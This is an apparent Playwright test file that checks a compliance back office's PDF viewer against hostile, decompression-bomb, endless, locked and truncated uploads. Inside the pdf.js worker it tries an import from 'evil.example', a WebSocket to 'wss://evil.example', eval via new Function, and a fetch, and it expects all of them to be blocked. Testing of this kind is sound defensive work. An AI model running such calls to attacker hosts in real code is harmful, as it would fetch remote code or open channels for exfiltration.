import type { Page } from '@playwright/test';
import {
  bombPdf,
  endlessPdf,
  hostilePdf,
  largePage,
  lockedPdf,
  manyPages,
  manyPixelsPdf,
  pdfBytes,
  pdfFile,
  statement,
} from '../packages/widgets/src/back-office/testing/sample-pdfs.ts';
import { clientOf } from './client-of.ts';
import { expect, expectAccessible, testAlone, visit } from './fixtures.ts';

/* The PDFs that applicants send, as officers open them: under the policies of the real server. */

type Upload = (name: string, file: Blob) => Promise<void>;

/** Sends documents as the applicant, and opens the case as an officer. */
async function withDocuments(page: Page, origin: string, send: (upload: Upload) => Promise<void>) {
  const { files } = await clientOf(origin, 'pending');
  await send(async (name, file) => {
    await files.upload({
      documentType: 'ProofOfFunds',
      file: new File([file], name, { type: 'application/pdf' }),
    });
  });
  await visit(page, '/admin/compliance/pending', 'officer');
  const list = page.getByRole('list', { name: /^Documents of/ });
  return (name: string) => list.getByRole('button', { name }).click();
}

const region = (page: Page) => page.getByRole('region', { name: 'Document', exact: true });

testAlone(
  'S45 a PDF that would run, open or send something is looked at, and does nothing',
  async ({ page, own }) => {
    testAlone.slow();
    const open = await withDocuments(page, own.origin, (upload) =>
      upload('hostile.pdf', pdfFile(hostilePdf)),
    );
    const address = page.url();
    const asked: string[] = [];
    page.context().on('request', (request) => asked.push(request.url()));
    page.on('dialog', () => asked.push('a dialog'));
    page.on('download', () => asked.push('a download'));
    page.context().on('page', () => asked.push('another page'));
    const worker = page.waitForEvent('worker');
    await open('hostile.pdf');
    const shown = page.getByRole('figure', { name: 'Page 1 of 1 of hostile.pdf' });
    await expect(shown).toContainText('Lohnausweis');
    // Box of the document, for its links, buttons and fields.
    const box = (await shown.locator('canvas').boundingBox())!;
    for (const share of [0.1, 0.3, 0.5])
      await page.mouse.click(box.x + box.width * 0.3, box.y + Math.min(box.height, 400) * share);
    await region(page).press('Enter');
    await expect(page).not.toHaveTitle('ran');
    expect(page.url()).toBe(address);
    expect(asked.filter((url) => !url.startsWith(own.origin))).toEqual([]);
    await expect(
      page.locator('main :is(iframe, embed, object, script, a[href*=evil])'),
    ).toHaveCount(0);
    await expectAccessible(page);

    // Nor could it, if a hole in pdf.js let it: its worker reaches nothing, and makes no code of text.
    const reached = await (
      await worker
    ).evaluate(async () => {
      const tries: Record<string, () => unknown> = {
        module: () => import(['https://evil.example', 'module.js'].join('/')),
        // oxlint-disable-next-line typescript/no-implied-eval -- the policy refuses it
        code: () => new Function('return 1')(),
        font: () => new FontFace('x', 'url(/fonts/x.woff2)').load(),
        socket: () => new WebSocket('wss://evil.example').readyState === 0 || Promise.reject(),
        fetch: () => fetch('/config.json').then(({ ok }) => ok || Promise.reject()),
      };
      const done: string[] = [];
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          await attempt();
          done.push(name);
        } catch {
          // The expected case.
        }
      }
      return done;
    });
    expect(reached).toEqual([]);

    // The worker ends with the document.
    await page.getByRole('link', { name: 'Back to the queue' }).click();
    await expect.poll(() => page.workers().length).toBe(0);
  },
);

testAlone(
  'a PDF is read by its pages, by keys and by the number of a page',
  async ({ page, own }) => {
    const open = await withDocuments(page, own.origin, async (upload) => {
      await upload('statement.pdf', pdfFile(statement));
      await upload('long.pdf', pdfFile(manyPages(1200)));
    });
    await open('statement.pdf');
    await expect(page.getByRole('figure', { name: 'Page 1 of 3 of statement.pdf' })).toContainText(
      'Gehälter und Löhne',
    );
    await region(page).press('PageDown');
    await expect(page.getByRole('figure', { name: 'Page 2 of 3 of statement.pdf' })).toContainText(
      'August 2026',
    );
    await region(page).press('r');
    await expect(page.getByRole('dialog')).toHaveCount(0);
    // A document that is opened takes the place of the one before, and of its worker.
    await open('long.pdf');
    const field = page.getByRole('textbox', { name: 'Page' });
    await field.fill('1200');
    await field.press('Enter');
    await expect(
      page.getByRole('figure', { name: 'Page 1,200 of 1,200 of long.pdf' }),
    ).toContainText('Seite 1200');
    expect(page.workers()).toHaveLength(1);
    const saved = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Save long.pdf' }).click();
    expect((await saved).suggestedFilename()).toBe('long.pdf');
  },
);

testAlone(
  'S45 a PDF that would flood the memory or never end leaves the case usable',
  async ({ page, own }) => {
    testAlone.slow();
    const open = await withDocuments(page, own.origin, async (upload) => {
      await upload('endless.pdf', pdfFile(endlessPdf));
      await upload('bomb.pdf', pdfFile(bombPdf()));
      await upload('large.pdf', pdfFile(largePage));
      await upload('poster.pdf', await manyPixelsPdf());
      await upload('locked.pdf', pdfFile(lockedPdf));
      await upload('torn.pdf', new Blob([pdfBytes(statement).subarray(0, 300)]));
    });
    await open('endless.pdf');
    await expect(page.getByText('Page 1 takes too long')).toBeVisible({ timeout: 30_000 });
    await expect.poll(() => page.workers().length).toBe(0);
    // Its other pages can be read.
    await page.getByRole('button', { name: 'Next page' }).click();
    await expect(page.getByRole('figure', { name: 'Page 2 of 2 of endless.pdf' })).toContainText(
      'August 2026',
    );
    for (const [name, words] of [
      ['bomb.pdf', 'This PDF is too large to be shown'],
      ['locked.pdf', 'This PDF has a password'],
      ['torn.pdf', 'This PDF cannot be read'],
    ] as const) {
      await open(name);
      await expect(page.getByText(words)).toBeVisible({ timeout: 30_000 });
      await expect(page.getByRole('button', { name: 'Save file' })).toBeVisible();
    }
    for (const name of ['large.pdf', 'poster.pdf']) {
      await open(name);
      const shown = page.getByRole('figure', { name: `Page 1 of 1 of ${name}` });
      await expect(shown).toBeVisible({ timeout: 30_000 });
      expect(
        await shown
          .locator('canvas')
          .evaluate(({ width, height }: HTMLCanvasElement) => Math.max(width, height)),
      ).toBeLessThanOrEqual(4096);
    }
    await page.getByRole('button', { name: 'Reject' }).click();
    await expect(page.getByRole('dialog').getByRole('textbox')).toBeVisible();
  },
);

testAlone(
  'where the reader for PDFs cannot be loaded, that is said and can be tried again',
  async ({ page, own }) => {
    const open = await withDocuments(page, own.origin, (upload) =>
      upload('statement.pdf', pdfFile(statement)),
    );
    await page.route('**/pdf-worker-*.js', (route) => route.abort());
    await open('statement.pdf');
    await expect(page.getByText('The reader for PDFs could not be loaded')).toBeVisible();
    await page.unroute('**/pdf-worker-*.js');
    await page.getByRole('button', { name: 'Try again' }).click();
    await expect(page.getByRole('figure', { name: 'Page 1 of 3 of statement.pdf' })).toBeVisible();
  },
);
